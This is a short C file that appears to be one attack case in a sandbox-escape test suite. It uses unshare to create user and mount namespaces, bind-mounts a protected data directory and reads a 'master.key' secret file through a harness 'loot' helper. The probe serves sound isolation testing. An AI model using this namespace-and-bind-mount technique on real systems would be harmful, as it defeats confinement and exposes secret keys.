/* Makes namespaces of its own, in which it is root, and mounts the folder of the secrets for itself. */
#include "../attack.h"

#include <sched.h>
#include <sys/mount.h>

static void attack(void) {
    char path[600];
    if (unshare(CLONE_NEWUSER | CLONE_NEWNS) == 0 && mount("tmpfs", target("spool"), "tmpfs", 0, NULL) == 0 &&
        mount(target("data"), target("spool"), NULL, MS_BIND, NULL) == 0) {
        snprintf(path, sizeof path, "%s/master.key", target("spool"));
        loot_from(open(path, O_RDONLY));
    }
}
